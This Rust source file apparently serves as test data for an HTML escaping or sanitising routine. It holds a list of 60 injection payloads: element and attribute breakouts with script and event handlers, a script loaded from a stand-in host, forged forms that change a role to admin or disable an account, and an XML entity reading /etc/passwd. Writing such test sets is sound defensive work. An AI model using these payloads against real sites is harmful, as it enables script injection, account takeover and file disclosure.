//! Texts that try to become markup. None is longer than a name may be, and none holds what an input refuses.

/// A text of the same kind that cannot be taken for markup.
pub const HARMLESS: &str = "Plain words of the usual kind";

/// All of them.
pub const PAYLOADS: [&str; 60] = [
    // Out of an element that holds text only.
    "</title><form hidden id=editor-form action=/fn/change_role><input name=role value=admin>",
    "</title><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "</title><script>alert(1)</script>",
    "</TITLE ><svg onload=alert(1)>",
    "</title/><base href=https://evil.example/>",
    "</title x=1><link rel=stylesheet href=https://evil.example/>",
    "</textarea><script>alert(1)</script>",
    "</textarea x=1><img src=x onerror=alert(1)>",
    "</TextArea><iframe src=https://evil.example></iframe>",
    "</script><script>alert(1)</script>",
    "</script ><img src=x onerror=alert(1)>",
    "</SCRIPT/><svg/onload=alert(1)>",
    "<!--<script>",
    "<!--<script></script><script>alert(1)",
    "</style><img src=x onerror=alert(1)>",
    "</noscript><img src=x onerror=alert(1)>",
    "</iframe><script>alert(1)</script>",
    "</xmp></noembed></noframes></plaintext><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</svg></math></template><img src=x onerror=alert(1)>",
    // Out of the elements around it.
    "</p></div></main></body></html><form action=/fn/log_out>",
    "</a></li></ul></nav><button form=editor-form>Save</button>",
    "</td></tr></table><form id=x>",
    "</code></pre><object data=https://evil.example></object>",
    "</h1></header></article><embed src=https://evil.example>",
    // Out of an attribute.
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus='alert(1)",
    "` onmouseover=alert(1) `",
    "x onmouseover=alert(1)",
    "\" style=\"position:fixed;inset:0\" x=\"",
    "\"/></form><form action=/fn/disable_account>",
    "\" formaction=/fn/log_out x=\"",
    "\" id=\"editor-form\" name=\"body",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "&#34;&#62;<script>alert(1)</script>",
    "&lt;/title&gt;<script>alert(1)</script>",
    "&amp;lt;script&amp;gt;alert(1)",
    // Markup as such.
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form id=editor-form><input name=title><input name=body></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#x73;cript:alert(1)\">x</a>",
    "<div id=main tabindex=-1>",
    // What ends or begins something else than an element.
    "]]><img src=x onerror=alert(1)><![CDATA[",
    "--><img src=x onerror=alert(1)><!--",
    "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    // What breaks out of a script's string or a template.
    "\\\"});alert(1);//</script>",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}\\u003cscript\\u003e",
];
